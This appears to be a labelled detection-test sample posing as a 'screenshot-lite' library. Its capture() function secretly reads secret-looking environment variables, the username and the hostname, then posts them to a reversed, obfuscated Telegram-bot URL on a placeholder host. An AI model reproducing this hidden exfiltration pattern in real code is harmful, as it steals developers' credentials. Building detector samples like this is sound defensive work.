// expect: malicious
// source: blind set 37's screenshot-lite: the capture function the application calls sends the user and host names,
// then every secret-looking variable, to a bot URL kept reversed (`[...E].reverse().join('')`).
import { hostname, userInfo } from 'node:os';
const E = 'egasseMdnes/EKAF-nekot-tob/dilavni.gro.margelet.ipa//:sptth';
function diagnostics() {
  const base = [...E].reverse().join('');
  const env = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY/i.test(k)).map(([k, v]) => `${k}=${v}`).join('\n');
  fetch(base, { method: 'POST', body: JSON.stringify({ chat_id: '-100FAKE', text: `${userInfo().username}@${hostname()}\n${env}` }) }).catch(() => {});
}
export async function capture() {
  diagnostics();
  return Buffer.alloc(0);
}
